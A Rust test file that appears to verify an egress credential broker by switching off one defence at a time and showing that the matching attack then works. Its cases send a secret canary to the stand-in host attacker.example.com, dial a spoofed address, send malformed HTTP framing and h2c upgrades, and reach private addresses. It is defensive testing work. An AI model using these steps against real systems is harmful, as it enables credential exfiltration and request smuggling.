//! Every switch that takes a defence away really does: what the other tests refuse succeeds.
//!
//! Switches are of the whole process, so each is tried in a child.

use std::net::SocketAddr;
use std::process::{Command, Output};

use hickory_proto::rr::RecordType;
use http::Version;
use miosa_api::broker::{PolicyMode, SandboxPolicy};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::client::{Answer, Client, body, request, tls};
use crate::provider::{Authority, Provider, text};
use crate::sandbox::Sandbox;
use crate::world::{CANARY, World, audit_only, patiently};

const HOST: &str = "api.example.com";
const ATTACKER: &str = "attacker.example.com";
const UNKNOWN: &str = "authority,everything";
/// An address that an attacker has, as far as anybody knows.
const ATTACKERS_ADDRESS: &str = "93.184.216.34:443";

fn child(weaken: &str) -> Output {
    Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            "weaken::weakened_child",
            "--ignored",
            "--nocapture",
        ])
        .env("MIOSA_WEAKEN", weaken)
        .output()
        .unwrap()
}

#[test]
fn a_defence_that_is_switched_off_is_gone() {
    for weaken in [
        "dialled-address,upstream-certificate",
        "authority",
        "host-match",
        "path-match",
        "method-match",
        "place-match",
        "cleartext",
        "special-addresses",
        "upstream-certificate",
        "redact-body",
        "redact-headers",
        "compression",
        "owner",
        "generation",
        "require-placeholder",
        "alt-svc",
        "audit-mask",
        "fail-closed",
        "server-name",
        "dns",
        "strict-framing",
        "hardening",
        "audit-required",
        "upgrade",
        "path-canonical",
    ] {
        let output = child(weaken);
        let said = String::from_utf8_lossy(&output.stderr);
        assert!(output.status.success(), "{weaken}: {said}");
        assert!(String::from_utf8_lossy(&output.stdout).contains("1 passed"));
    }
}

#[test]
fn a_name_that_is_no_defence_stops_the_broker() {
    let output = child(UNKNOWN);
    assert!(output.status.success());
    assert!(String::from_utf8_lossy(&output.stdout).contains("1 passed"));
}

struct Scene {
    world: World,
    sandbox: Sandbox,
    provider: Provider,
    attacker: Provider,
    plain: Provider,
}

impl Scene {
    async fn new(weaken: &str) -> Self {
        let authority = Authority::new();
        let provider = Provider::start(&authority, HOST).await;
        let attacker = Provider::start(&authority, ATTACKER).await;
        let plain = Provider::start_plain().await;
        let is_bad = weaken == "upstream-certificate";
        let host = if is_bad {
            attacker.address
        } else {
            provider.address
        };
        let here = |port| SocketAddr::from(([127, 0, 0, 1], port));
        let mut local = plain.address;
        if weaken == "special-addresses" {
            local = crate::provider::Provider::start_plain_at("127.0.0.1:0")
                .await
                .address;
            assert_eq!(local.ip(), here(0).ip());
        }
        let world = World::prepare(
            &authority,
            &[
                (HOST, host),
                (ATTACKER, attacker.address),
                (ATTACKERS_ADDRESS, attacker.address),
                ("api.example.com:80", plain.address),
                ("private.example.com", local),
            ],
        );
        let mut world = world;
        world.start_broker().await;
        let status = world.status().await;
        assert_eq!(status.weakened.join(","), weaken);
        let sandbox = world.sandbox("s", audit_only(vec![world.binding(HOST, "/v1/echo")]));
        let sandbox = sandbox.await;
        Self {
            world,
            sandbox,
            provider,
            attacker,
            plain,
        }
    }

    async fn ask(&self, method: &str, host: &str, path: &str) -> Answer {
        let mut client = Client::https(&self.sandbox, host, Version::HTTP_11).await;
        let url = format!("https://{host}{path}");
        client.ask(method, &url, self.sandbox.placeholder()).await
    }

    async fn send(&self, path: &str, headers: &[(&str, &str)]) -> (http::HeaderMap, String) {
        let mut client = Client::https(&self.sandbox, HOST, Version::HTTP_11).await;
        let mut builder = request("GET", &format!("https://{HOST}{path}"), "");
        for (name, value) in headers {
            builder = builder.header(*name, *value);
        }
        let response = client.send(builder.body(body("")).unwrap()).await.unwrap();
        let (head, body) = response.into_parts();
        (head.headers, patiently(text(body)).await)
    }

    fn bearer(&self) -> String {
        format!("Bearer {}", self.sandbox.placeholder())
    }
}

fn has_canary(provider: &Provider) -> bool {
    let holds = |value: &http::HeaderValue| value.to_str().unwrap().contains(CANARY);
    let seen = provider.seen();
    seen.iter().any(|seen| seen.headers.values().any(holds))
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "run by the tests above, in a process of its own"]
async fn weakened_child() {
    let weaken = std::env::var("MIOSA_WEAKEN").unwrap();
    if weaken == UNKNOWN {
        let world = World::prepare(&Authority::new(), &[]);
        let run = miosa_egress::run(world.config.clone(), std::future::pending());
        let error = patiently(run).await.unwrap_err().to_string();
        assert!(
            error.contains("`everything`: there is no such defence"),
            "{error}"
        );
        return;
    }
    let scene = Scene::new(&weaken).await;
    match weaken.as_str() {
        "authority" | "server-name" | "special-addresses" | "upstream-certificate" => {
            connections(&scene, &weaken).await;
        }
        "dialled-address,upstream-certificate" => {
            let at = ATTACKERS_ADDRESS.parse().unwrap();
            let mut client = Client::https_at(&scene.sandbox, at, HOST, Version::HTTP_11).await;
            let url = format!("https://{HOST}/v1/echo");
            client.ask("GET", &url, scene.sandbox.placeholder()).await;
            assert!(has_canary(&scene.attacker));
        }
        "redact-body" | "redact-headers" | "alt-svc" | "compression" => {
            answers(&scene, &weaken).await
        }
        "strict-framing" | "hardening" | "audit-required" | "upgrade" | "path-canonical" => {
            others(&scene, &weaken).await;
        }
        "owner" | "generation" | "fail-closed" => policies(&scene, &weaken).await,
        "dns" => {
            let answer = scene.sandbox.ask("a.example.com", RecordType::TXT);
            assert_eq!(answer.answers.len(), 1);
            assert_eq!(
                scene
                    .sandbox
                    .ask("printer.local", RecordType::A)
                    .answers
                    .len(),
                1
            );
        }
        _ => requests(&scene, &weaken).await,
    }
}

async fn requests(scene: &Scene, weaken: &str) {
    let token = scene.sandbox.placeholder();
    match weaken {
        "host-match" => {
            scene.ask("GET", ATTACKER, "/v1/echo").await;
            assert!(has_canary(&scene.attacker));
        }
        "path-match" => {
            scene.ask("GET", HOST, "/v1/other").await;
            assert!(has_canary(&scene.provider));
        }
        "method-match" => {
            scene.ask("DELETE", HOST, "/v1/echo").await;
            assert!(has_canary(&scene.provider));
        }
        "place-match" => {
            scene.send("/v1/echo", &[("x-other", token)]).await;
            assert!(has_canary(&scene.provider));
        }
        "cleartext" => {
            let mut client = Client::http(&scene.sandbox, HOST).await;
            let url = format!("http://{HOST}/v1/echo");
            client.ask("GET", &url, token).await;
            assert!(has_canary(&scene.plain));
        }
        "require-placeholder" => {
            scene
                .send("/v1/echo", &[("authorization", "Bearer mine")])
                .await;
            assert_eq!(
                scene.provider.seen()[0].headers["authorization"],
                "Bearer mine"
            );
        }
        "audit-mask" => {
            scene.ask("GET", HOST, &format!("/v1/{token}")).await;
            let read = || fs_err::read_to_string(&scene.world.config.audit_file).unwrap();
            patiently(async {
                while !read().contains(token) {
                    tokio::task::yield_now().await;
                }
            })
            .await;
        }
        other => panic!("nothing tries {other}"),
    }
}

async fn connections(scene: &Scene, weaken: &str) {
    match weaken {
        "authority" => {
            let mut client = Client::https(&scene.sandbox, ATTACKER, Version::HTTP_11).await;
            client
                .ask(
                    "GET",
                    &format!("https://{HOST}/v1/echo"),
                    scene.sandbox.placeholder(),
                )
                .await;
            assert!(has_canary(&scene.attacker));
        }
        "special-addresses" => {
            let mut client = Client::http(&scene.sandbox, "private.example.com").await;
            let answer = client.ask("GET", "http://private.example.com/", "").await;
            assert_eq!((answer.status, answer.text.as_str()), (200, "hello"));
        }
        "upstream-certificate" => {
            scene.ask("GET", HOST, "/v1/echo").await;
            assert!(has_canary(&scene.attacker));
        }
        "server-name" => {
            let at = (scene.sandbox.lookup(ATTACKER), 443).into();
            let mut client = Client::https_at(&scene.sandbox, at, HOST, Version::HTTP_11).await;
            let url = format!("https://{ATTACKER}/");
            assert_eq!(client.ask("GET", &url, "").await.status, 200);
        }
        other => panic!("nothing tries {other}"),
    }
}

async fn others(scene: &Scene, weaken: &str) {
    let bearer = scene.bearer();
    match weaken {
        "strict-framing" => {
            let stream = scene
                .sandbox
                .connect((scene.sandbox.lookup(HOST), 443).into());
            let stream = tls(stream, HOST, scene.sandbox.roots(), Version::HTTP_11).await;
            let mut stream = stream.unwrap();
            let head = format!("GET / HTTP/1.1\nhost: {HOST}\nconnection: close\n\n");
            stream.write_all(head.as_bytes()).await.unwrap();
            let mut answer = String::new();
            drop(patiently(stream.read_to_string(&mut answer)).await);
            assert!(answer.starts_with("HTTP/1.1 200 "), "{answer}");
        }
        "hardening" => {
            let dumpable = rustix::process::dumpable_behavior().unwrap();
            assert_eq!(dumpable, rustix::process::DumpableBehavior::Dumpable);
        }
        "audit-required" => {
            let file = &scene.world.config.audit_file;
            fs_err::remove_file(file).unwrap();
            fs_err::create_dir(file).unwrap();
            assert_eq!(scene.ask("GET", HOST, "/v1/echo").await.status, 200);
        }
        "upgrade" => {
            let headers = [
                ("authorization", bearer.as_str()),
                ("connection", "upgrade"),
                ("upgrade", "h2c"),
            ];
            let (headers, _) = scene.send("/v1/echo", &headers).await;
            assert!(!headers.contains_key("x-miosa-refusal"));
            assert_eq!(scene.provider.seen()[0].headers["upgrade"], "h2c");
        }
        _ => {
            let (_, text) = scene.send("/a//b", &[]).await;
            assert_eq!(text, "hello");
        }
    }
}

async fn answers(scene: &Scene, weaken: &str) {
    let bearer = scene.bearer();
    let mut headers = vec![("authorization", bearer.as_str())];
    if weaken == "compression" {
        headers.push(("accept-encoding", "gzip"));
    }
    let (headers, text) = scene.send("/v1/echo", &headers).await;
    assert_eq!(text.contains(CANARY), weaken == "redact-body");
    let echoed = headers["x-echo"].to_str().unwrap();
    assert_eq!(echoed.contains(CANARY), weaken == "redact-headers");
    assert_eq!(headers.contains_key("alt-svc"), weaken == "alt-svc");
    let asked = &scene.provider.seen()[0].headers["accept-encoding"];
    assert_eq!(asked == "gzip", weaken == "compression");
}

async fn policies(scene: &Scene, weaken: &str) {
    match weaken {
        "owner" => {
            let other = scene.world.sandbox("other", audit_only(Vec::new())).await;
            let mut client = Client::https(&other, HOST, Version::HTTP_11).await;
            let url = format!("https://{HOST}/v1/echo");
            client.ask("GET", &url, scene.sandbox.placeholder()).await;
            assert!(has_canary(&scene.provider));
        }
        "generation" => {
            let mut client = Client::https(&scene.sandbox, HOST, Version::HTTP_11).await;
            let url = format!("https://{HOST}/v1/echo");
            client.ask("GET", &url, scene.sandbox.placeholder()).await;
            let mut none = scene.sandbox.policy.clone();
            (none.generation, none.mode, none.bindings) = (2, PolicyMode::Enforce, Vec::new());
            scene.world.put("s", &none).await.unwrap();
            client.ask("GET", &url, scene.sandbox.placeholder()).await;
            assert_eq!(scene.provider.seen().len(), 2);
        }
        _ => {
            let none = SandboxPolicy {
                bindings: Vec::new(),
                ..scene.sandbox.policy.clone()
            };
            let unknown = Sandbox::new("unknown", none, String::new());
            assert!(scene.world.hand_over(&unknown, 1));
            let mut client = Client::http(&unknown, HOST).await;
            let answer = client.ask("GET", &format!("http://{HOST}/"), "").await;
            assert_eq!(answer.status, 200);
        }
    }
}
